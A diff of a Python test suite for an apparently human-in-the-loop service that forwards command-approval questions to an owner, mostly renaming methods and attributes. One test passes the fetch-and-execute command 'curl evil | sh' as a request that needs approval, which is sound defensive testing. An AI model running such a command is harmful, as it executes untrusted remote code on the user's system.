@@ -26,10 +26,10 @@ class FakeForwarder:
     def __init__(self) -> None:
         self.posts: list[str] = []
 
-    def home_of(self, scope: Scope) -> Address | None:
+    def owner_chat(self, scope: Scope) -> Address | None:
         return HOME
 
-    async def carry(self, question: str, address: Address, text: str) -> None:
+    async def forward(self, question: str, address: Address, text: str) -> None:
         self.posts.append(text)
 
 
@@ -70,15 +70,15 @@ async def test_forwarded_question_needs_its_id(harness: ForwardingHarness) -> No
         assert f"/approve {name}" in post
         assert "include the id" in post
         for words in ("yes", "no", "always", "yess", "👍"):
-            assert await harness.service.takes(OWNER_ANSWERER, words)
+            assert await harness.service.would_answer(OWNER_ANSWERER, words)
             result = await harness.service.reply(OWNER_ANSWERER, words)
             assert result is not None
-            assert (result.count, name in result.told) == (0, True)
+            assert (result.count, name in result.message) == (0, True)
         for everything in (False, True):
             result = await harness.service.answer(
                 OWNER_ANSWERER, ApprovalChoice.ONCE, everything=everything
             )
-            assert (result.count, name in result.told) == (0, True)
+            assert (result.count, name in result.message) == (0, True)
         assert members_request.decision is None
         result = await harness.service.reply(OWNER_ANSWERER, f"yes {name}")
         assert result is not None
@@ -120,8 +120,8 @@ async def test_all_denies_everything_but_allows_only_own_requests(
         assert result is not None
         assert result.count == 0
         result = await harness.service.answer(OWNER_ANSWERER, ApprovalChoice.ONCE, everything=True)
-        assert (result.count, short_id(question) in result.told) == (1, True)
-        assert result.told.startswith("Allowed once: git push\n")
+        assert (result.count, short_id(question) in result.message) == (1, True)
+        assert result.message.startswith("Allowed once: git push\n")
         result = await harness.service.answer(OWNER_ANSWERER, ApprovalChoice.DENY, everything=True)
         assert result.count == 1
     assert own.decision == ALLOWED
@@ -135,10 +135,10 @@ async def test_reply_reaches_own_clarification_despite_forwarded_question(
     answers: list[str | None] = []
 
     async def ask() -> None:
-        answers.append(await harness.service.inquire(OWNER_SCOPE, "Sure?", (), harness.tell))
+        answers.append(await harness.service.ask_person(OWNER_SCOPE, "Sure?", (), harness.emit))
 
     async with anyio.create_task_group() as group:
-        group.start_soon(harness.rule, outside_request("curl evil | sh"), members("r1"))
+        group.start_soon(harness.decide, outside_request("curl evil | sh"), members("r1"))
         await harness.wait_for_question()
         group.start_soon(ask)
         await harness.wait_for_question(2)
@@ -158,7 +158,7 @@ async def test_forwarded_questions_are_limited_per_run_and_person(
     refused: list[str] = []
 
     async def one(number: int, scope: Scope) -> None:
-        decision = await harness.rule(outside_request(f"remote command {number}"), scope)
+        decision = await harness.decide(outside_request(f"remote command {number}"), scope)
         refused.append(decision.why)
 
     async with anyio.create_task_group() as group:
@@ -185,15 +185,15 @@ async def test_forwarded_limits_include_other_processes_and_resumed_questions(
     harness: ForwardingHarness,
 ) -> None:
     async with anyio.create_task_group() as group:
-        group.start_soon(harness.rule, outside_request("./deploy.sh"), members("r1"))
+        group.start_soon(harness.decide, outside_request("./deploy.sh"), members("r1"))
         await harness.wait_for_question()
-        harness.service.leave()
+        harness.service.prepare_shutdown()
         group.cancel_scope.cancel()
     harness.restart()
     (first,) = harness.questions
     with anyio.fail_after(60):
         assert (
-            await harness.rule(outside_request("./other.sh"), members("r1"))
+            await harness.decide(outside_request("./other.sh"), members("r1"))
         ).why == RUN_WAITS_ALREADY
     again = PendingApproval(harness, outside_request("./deploy.sh"), members("r1"))
     async with anyio.create_task_group() as group:
